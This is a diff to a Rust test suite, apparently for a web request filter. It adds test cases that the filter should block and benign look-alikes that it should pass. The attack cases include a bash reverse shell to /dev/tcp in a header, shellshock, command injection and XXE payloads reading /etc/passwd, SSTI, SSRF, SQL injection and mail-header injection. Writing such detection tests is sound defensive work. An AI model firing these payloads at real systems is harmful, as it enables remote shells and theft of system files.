@@ -53,6 +53,10 @@ fn attacks() -> Vec<Case> {
         ("ssrf with a decimal IP in JSON", "POST", "/fetch".into(), vec![JSON], r#"{"target":"http://2130706433:8080/admin"}"#.into()),
         ("ssti in JSON", "POST", "/render".into(), vec![JSON], r#"{"name":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#.into()),
         ("cmdi in form", "POST", "/ping".into(), vec![FORM], "host=8.8.8.8%3Bcat+%2Fetc%2Fpasswd".into()),
+        ("reverse shell in user-agent, no separator", "GET", "/".into(), vec![("user-agent", "/bin/bash -c \"sh -i>& /dev/tcp/172.17.0.1/54321 0>&1\"")], String::new()),
+        ("shellshock in a header", "GET", "/".into(), vec![("x-test", "() { :; }; echo vulnerable")], String::new()),
+        ("command disguised by quotes in query", "GET", "/run?cmd=%27wh%27oami".into(), vec![], String::new()),
+        ("mail command after a line break in form", "POST", "/contact".into(), vec![FORM], "textarea=%0D%0AMAIL%20FROM%3A%3Cspam%40evil.example%3E".into()),
         ("sqli in form", "POST", "/login".into(), vec![FORM], "user=admin%27--&pass=x".into()),
         ("xxe in XML", "POST", "/import".into(), vec![XML], r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.into()),
         ("sqli in JSON sent as text/plain", "POST", "/notes".into(), vec![("content-type", "text/plain")], "x' UNION SELECT username, password FROM users--".into()),
@@ -121,6 +125,8 @@ async fn harmless_look_alikes_pass() {
     let client = h1_client();
     let harmless: Vec<(&str, &str, Headers, String)> = vec![
         ("GET", "/search?q=O%27Brien&sort=name", vec![], String::new()),
+        ("GET", "/search?q=time%20flies%3B%20I%27d%20say%20if%20a%20%3D%3D%20b%20then%20echo", vec![], String::new()),
+        ("POST", "/contact", vec![FORM], "message=Dear+team%2C%0D%0AData+is+attached.%0D%0AList+of+items+follows".into()),
         ("GET", "/thumb?src=http://203.0.113.7/images/logo.png", vec![], String::new()),
         ("GET", "/search?q=select%20the%20best%20union%20plan", vec![], String::new()),
         ("GET", "/docs/getting-started/index.html", vec![("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36")], String::new()),
